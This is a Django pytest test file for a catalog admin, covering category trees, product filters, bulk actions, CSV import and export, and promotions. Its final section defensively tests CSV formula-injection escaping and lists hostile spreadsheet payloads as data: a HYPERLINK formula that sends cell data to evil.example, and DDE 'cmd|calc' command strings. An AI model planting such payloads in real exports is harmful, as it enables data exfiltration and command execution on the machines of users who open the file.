import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from catalog.models import Category, Product, Promotion
from catalog.resources import COLUMNS
from tests.factories import CategoryFactory, ProductFactory, PromotionFactory

pytestmark = pytest.mark.django_db

HEADER = ",".join(COLUMNS)


@pytest.fixture
def merchandiser(staff_user):
    """A staff user with the catalog permissions a merchandiser gets, not a superuser."""
    staff_user.user_permissions.set(Permission.objects.filter(content_type__app_label="catalog"))
    return staff_user


@pytest.fixture
def client(client, merchandiser):
    client.force_login(merchandiser)
    return client


def messages_of(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def csv_upload(*lines: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(
        "products.csv", "\n".join([HEADER, *lines]).encode(), content_type="text/csv"
    )


def kitchen_tree():
    home = CategoryFactory(slug="home", name="Home")
    kitchen = CategoryFactory(slug="kitchen", name="Kitchen", parent=home)
    mugs = CategoryFactory(slug="mugs", name="Mugs", parent=kitchen)
    return home, kitchen, mugs


# --- Category -------------------------------------------------------------------------------------
def test_the_category_list_shows_each_category_with_its_path_and_product_count(client):
    _, _, mugs = kitchen_tree()
    ProductFactory.create_batch(3, category=mugs)

    response = client.get(reverse("admin:catalog_category_changelist"))

    assert response.status_code == 200
    html = response.content.decode()
    assert "Home › Kitchen › Mugs" in html
    mugs_row = next(row for row in response.context["cl"].result_list if row.pk == mugs.pk)
    assert mugs_row._product_count == 3


def test_the_category_list_takes_the_same_queries_for_a_deep_tree_as_for_one_category(client):
    url = reverse("admin:catalog_category_changelist")
    CategoryFactory(slug="alone")
    with CaptureQueriesContext(connection) as one_category:
        client.get(url)
    parent = None
    for depth in range(8):
        parent = CategoryFactory(slug=f"level-{depth}", name=f"Level {depth}", parent=parent)
        ProductFactory(category=parent)

    with CaptureQueriesContext(connection) as deep_tree:
        response = client.get(url)

    assert response.status_code == 200
    assert "Level 0 › Level 1 › Level 2 › Level 3" in response.content.decode()
    assert len(deep_tree) == len(one_category)


def test_the_category_form_refuses_to_move_a_category_below_its_own_descendant(client):
    home, _, mugs = kitchen_tree()

    response = client.post(
        reverse("admin:catalog_category_change", args=[home.pk]),
        {"name": "Home", "slug": "home", "parent": mugs.pk},
    )

    assert response.status_code == 200
    assert "A category cannot sit below itself." in response.content.decode()
    home.refresh_from_db()
    assert home.parent is None


# --- Product list ---------------------------------------------------------------------------------
def test_the_product_list_renders_many_products_with_a_bounded_number_of_queries(
    client, django_assert_max_num_queries
):
    _, kitchen, mugs = kitchen_tree()
    ProductFactory.create_batch(20, category=mugs, stock=None, points_price=300)
    ProductFactory.create_batch(20, category=kitchen, stock=4)
    promotion = PromotionFactory()
    promotion.categories.add(kitchen)

    with django_assert_max_num_queries(10):
        response = client.get(reverse("admin:catalog_product_changelist"))

    assert response.status_code == 200
    html = response.content.decode()
    assert "not tracked" in html
    assert "Home › Kitchen › Mugs" in html
    assert "9.99 GBP" in html


def test_the_stock_filter_separates_in_stock_out_of_stock_and_untracked(client):
    in_stock = ProductFactory(stock=3)
    sold_out = ProductFactory(stock=0)
    untracked = ProductFactory(stock=None)
    url = reverse("admin:catalog_product_changelist")

    shown = {
        value: set(client.get(url, {"stock": value}).context["cl"].result_list)
        for value in ("in", "out", "untracked")
    }

    assert shown == {"in": {in_stock}, "out": {sold_out}, "untracked": {untracked}}


def test_the_promotion_filter_includes_products_promoted_through_a_parent_category(client):
    _, kitchen, mugs = kitchen_tree()
    mug = ProductFactory(category=mugs)
    named = ProductFactory()
    ProductFactory()  # in no promotion
    upcoming_only = ProductFactory()
    active = PromotionFactory()
    active.categories.add(kitchen)
    active.products.add(named)
    PromotionFactory(starts_at=timezone.now() + timedelta(days=1)).products.add(upcoming_only)

    response = client.get(reverse("admin:catalog_product_changelist"), {"promoted": "yes"})

    assert set(response.context["cl"].result_list) == {mug, named}


def test_the_redeemable_filter_shows_only_products_with_a_points_price(client):
    redeemable = ProductFactory(points_price=500)
    ProductFactory(points_price=None)

    response = client.get(reverse("admin:catalog_product_changelist"), {"redeemable": "yes"})

    assert list(response.context["cl"].result_list) == [redeemable]


def test_searching_products_matches_part_of_the_brand(client):
    teapot = ProductFactory(brand="Brown Betty")
    ProductFactory(brand="Acme")

    response = client.get(reverse("admin:catalog_product_changelist"), {"q": "betty"})

    assert list(response.context["cl"].result_list) == [teapot]


# --- Product actions ------------------------------------------------------------------------------
def test_deactivating_changes_exactly_the_selected_products_and_says_how_many(client):
    chosen = ProductFactory.create_batch(3)
    already_inactive = ProductFactory(is_active=False)
    untouched = ProductFactory.create_batch(2)
    before = Product.objects.get(pk=chosen[0].pk).updated_at

    response = client.post(
        reverse("admin:catalog_product_changelist"),
        {
            "action": "deactivate",
            "_selected_action": [p.pk for p in [*chosen, already_inactive]],
        },
        follow=True,
    )

    assert set(Product.objects.filter(is_active=False)) == {*chosen, already_inactive}
    assert all(p.is_active for p in Product.objects.filter(pk__in=[p.pk for p in untouched]))
    assert Product.objects.get(pk=chosen[0].pk).updated_at > before
    assert "Deactivated 3 of the 4 selected product(s); 1 already inactive." in messages_of(
        response
    )


def test_activating_changes_exactly_the_selected_products(client):
    chosen = ProductFactory.create_batch(2, is_active=False)
    left_alone = ProductFactory(is_active=False)

    response = client.post(
        reverse("admin:catalog_product_changelist"),
        {"action": "activate", "_selected_action": [p.pk for p in chosen]},
        follow=True,
    )

    assert set(Product.objects.filter(is_active=True)) == set(chosen)
    assert not Product.objects.get(pk=left_alone.pk).is_active
    assert "Activated 2 of the 2 selected product(s); 0 already active." in messages_of(response)


# --- CSV import and export ------------------------------------------------------------------------
def test_the_import_preview_is_a_dry_run_that_stores_nothing(client):
    CategoryFactory(slug="mugs", name="Mugs")
    existing = ProductFactory(sku="MUG-1", title="Old title", price=Decimal("5.00"))

    response = client.post(
        reverse("admin:catalog_product_import"),
        {
            "format": "0",
            "import_file": csv_upload(
                'MUG-1,Blue mug,,mugs,Acme,7.50,GBP,12,true,,"{""colour"": ""blue""}"',
                "MUG-2,Red mug,,mugs,Acme,6.00,gbp,,yes,400,",
            ),
        },
    )

    assert response.status_code == 200
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert (result.totals["new"], result.totals["update"]) == (1, 1)
    assert "confirm_form" in response.context
    assert Product.objects.count() == 1
    assert Product.objects.get(pk=existing.pk).title == "Old title"


def test_confirming_the_import_stores_every_row(client):
    mugs = CategoryFactory(slug="mugs", name="Mugs")
    ProductFactory(sku="MUG-1", title="Old title")
    preview = client.post(
        reverse("admin:catalog_product_import"),
        {
            "format": "0",
            "import_file": csv_upload(
                'MUG-1,Blue mug,,mugs,Acme,7.50,GBP,12,true,,"{""colour"": ""blue""}"',
                "MUG-2,Red mug,A red one,mugs,Acme,6.00,eur,,no,400,",
            ),
        },
    )

    response = client.post(
        reverse("admin:catalog_product_process_import"),
        preview.context["confirm_form"].initial,
        follow=True,
    )

    assert response.status_code == 200
    blue, red = Product.objects.order_by("sku")
    assert (blue.title, blue.price, blue.stock, blue.attributes) == (
        "Blue mug",
        Decimal("7.50"),
        12,
        {"colour": "blue"},
    )
    assert (red.category, red.currency, red.stock, red.is_active, red.points_price) == (
        mugs,
        "EUR",
        None,
        False,
        400,
    )
    assert any("1 new, 1 updated" in message for message in messages_of(response))


def test_a_bad_row_is_reported_per_field_and_no_confirm_step_is_offered(client):
    CategoryFactory(slug="mugs")

    response = client.post(
        reverse("admin:catalog_product_import"),
        {
            "format": "0",
            "import_file": csv_upload(
                "MUG-1,Blue mug,,mugs,Acme,7.50,GBP,3,true,,",
                "MUG-2,Red mug,,no-such-slug,Acme,-2,GBP,2.5,maybe,,[1]",
            ),
        },
    )

    result = response.context["result"]
    (invalid,) = result.invalid_rows
    assert invalid.number == 2
    assert set(invalid.field_specific_errors) == {
        "category",
        "price",
        "stock",
        "is_active",
        "attributes",
    }
    assert "No category with slug 'no-such-slug'." in invalid.field_specific_errors["category"]
    assert "confirm_form" not in response.context
    html = response.content.decode()
    assert "no-such-slug" in html and "is not a whole number" in html
    assert Product.objects.count() == 0


def test_a_category_can_be_given_as_a_path_of_existing_categories_but_is_never_created(client):
    _, _, mugs = kitchen_tree()

    response = client.post(
        reverse("admin:catalog_product_import"),
        {
            "format": "0",
            "import_file": csv_upload(
                "MUG-1,Blue mug,,home/KITCHEN/Mugs,Acme,7.50,GBP,,true,,",
                "MUG-2,Red mug,,Home/Kitchen/Cups,Acme,7.50,GBP,,true,,",
            ),
        },
    )

    result = response.context["result"]
    (invalid,) = result.invalid_rows
    assert invalid.field_specific_errors["category"] == [
        "No category 'Cups' in the path 'Home/Kitchen/Cups'."
    ]
    assert result.rows[0].instance.category == mugs
    assert Category.objects.count() == 3


def test_a_sku_repeated_in_one_file_is_reported_on_the_second_row(client):
    response = client.post(
        reverse("admin:catalog_product_import"),
        {
            "format": "0",
            "import_file": csv_upload("MUG-1,Blue,,,,1,,,,,", "MUG-1,Blue again,,,,2,,,,,"),
        },
    )

    (invalid,) = response.context["result"].invalid_rows
    assert invalid.number == 2
    assert invalid.field_specific_errors["sku"] == ["'MUG-1' already appears in row 1."]


def test_a_confirmed_import_that_turned_invalid_since_the_preview_stores_nothing(client):
    mugs = CategoryFactory(slug="mugs")
    preview = client.post(
        reverse("admin:catalog_product_import"),
        {
            "format": "0",
            "import_file": csv_upload(
                "MUG-1,Blue mug,,,Acme,7.50,GBP,,true,,",
                "MUG-2,Red mug,,mugs,Acme,6.00,GBP,,true,,",
            ),
        },
    )
    assert "confirm_form" in preview.context
    # Someone deletes the category between the preview and the confirmation.
    mugs.delete()

    response = client.post(
        reverse("admin:catalog_product_process_import"),
        preview.context["confirm_form"].initial,
        follow=True,
    )

    assert Product.objects.count() == 0
    (message,) = messages_of(response)
    assert message.startswith("Nothing was imported: 1 row(s) failed (row 2:")
    assert "No category with slug 'mugs'." in message


def test_the_export_writes_the_import_products_columns_with_the_category_slug(client):
    ProductFactory(
        sku="MUG-1",
        category=CategoryFactory(slug="mugs"),
        stock=None,
        points_price=250,
        attributes={"colour": "blue"},
        image_url="/static/img/demo/home-kitchen.svg",
        tags=["summer", "gift idea"],
    )

    response = client.post(
        reverse("admin:catalog_product_export"),
        {"format": "0", **{f"productresource_{column}": "on" for column in COLUMNS}},
    )

    assert response.status_code == 200
    header, row = response.content.decode().splitlines()[:2]
    assert header == HEADER
    assert row.startswith("MUG-1,Product ")
    assert ",mugs,Acme,9.99,GBP,,1,250," in row
    assert row.endswith(
        '"{""colour"": ""blue""}",/static/img/demo/home-kitchen.svg,"summer,gift idea"'
    )


# --- Promotion ------------------------------------------------------------------------------------
def test_the_promotion_list_shows_each_promotions_status_against_now(client):
    now = timezone.now()
    PromotionFactory(name="Summer", starts_at=now - timedelta(days=1))
    PromotionFactory(name="Autumn", starts_at=now + timedelta(days=1))
    PromotionFactory(name="Spring", starts_at=now - timedelta(days=9), ends_at=now - timedelta(1))
    PromotionFactory(name="Quiet", is_active=False)

    response = client.get(reverse("admin:catalog_promotion_changelist"))

    statuses = {p.name: p._status for p in response.context["cl"].result_list}
    assert statuses == {
        "Summer": "active",
        "Autumn": "upcoming",
        "Spring": "expired",
        "Quiet": "paused",
    }


def test_end_now_ends_an_active_promotion_at_the_current_moment(client):
    promotion = PromotionFactory(starts_at=timezone.now() - timedelta(days=1))
    before = timezone.now()

    response = client.post(
        reverse("admin:catalog_promotion_changelist"),
        {"action": "end_now", "_selected_action": [promotion.pk]},
        follow=True,
    )

    promotion.refresh_from_db()
    assert before <= promotion.ends_at <= timezone.now()
    assert not Promotion.objects.active(at=timezone.now()).exists()
    assert "Ended 1 promotion(s) as of now." in messages_of(response)


def test_end_now_refuses_a_promotion_that_has_not_started(client):
    running = PromotionFactory(starts_at=timezone.now() - timedelta(days=1))
    upcoming = PromotionFactory(name="Black Friday", starts_at=timezone.now() + timedelta(days=3))
    planned_end = upcoming.ends_at

    response = client.post(
        reverse("admin:catalog_promotion_changelist"),
        {"action": "end_now", "_selected_action": [running.pk, upcoming.pk]},
        follow=True,
    )

    upcoming.refresh_from_db()
    assert upcoming.ends_at == planned_end
    assert any("Refused to end 1" in m and "Black Friday" in m for m in messages_of(response))
    assert "Ended 1 promotion(s) as of now." in messages_of(response)


def test_pause_and_resume_switch_only_the_selected_promotions(client):
    chosen, other = PromotionFactory.create_batch(2)
    url = reverse("admin:catalog_promotion_changelist")

    client.post(url, {"action": "pause", "_selected_action": [chosen.pk]})
    paused = Promotion.objects.get(pk=chosen.pk).is_active
    client.post(url, {"action": "resume", "_selected_action": [chosen.pk]})

    assert paused is False
    assert Promotion.objects.get(pk=chosen.pk).is_active
    assert Promotion.objects.get(pk=other.pk).is_active


def test_the_promotion_form_picks_products_through_autocomplete(client):
    promotion = PromotionFactory()

    response = client.get(reverse("admin:catalog_promotion_change", args=[promotion.pk]))

    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-field-name="products"' in html
    assert 'data-field-name="categories"' in html
    assert "admin-autocomplete" in html


# --- CSV formula injection ------------------------------------------------------------------------
FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _export(client) -> list[list[str]]:
    response = client.post(
        reverse("admin:catalog_product_export"),
        {"format": "0", **{f"productresource_{column}": "on" for column in COLUMNS}},
    )
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(client):
    for n, title in enumerate(FORMULA_TITLES):
        ProductFactory(sku=f"F-{n}", title=title, brand="=cmd|calc")
    ProductFactory(sku="PLAIN", title="Blue mug - large", brand="Acme")

    rows = {row[0]: row for row in _export(client)[1:]}

    title, brand = COLUMNS.index("title"), COLUMNS.index("brand")
    assert [rows[f"F-{n}"][title] for n in range(len(FORMULA_TITLES))] == [
        f"'{t}" for t in FORMULA_TITLES
    ]
    assert rows["F-0"][brand] == "'=cmd|calc"
    assert (rows["PLAIN"][title], rows["PLAIN"][brand]) == ("Blue mug - large", "Acme")


def test_an_escaped_export_imported_back_keeps_the_original_values(client):
    ProductFactory(sku="-7", title='=HYPERLINK("http://evil.example","x")', brand="@acme")
    exported = _export(client)
    Product.objects.all().delete()
    lines = io.StringIO()
    csv.writer(lines).writerows(exported[1:])

    preview = client.post(
        reverse("admin:catalog_product_import"),
        {"format": "0", "import_file": csv_upload(*lines.getvalue().splitlines())},
    )
    client.post(
        reverse("admin:catalog_product_process_import"),
        preview.context["confirm_form"].initial,
    )

    product = Product.objects.get()
    assert (product.sku, product.title, product.brand) == (
        "-7",
        '=HYPERLINK("http://evil.example","x")',
        "@acme",
    )
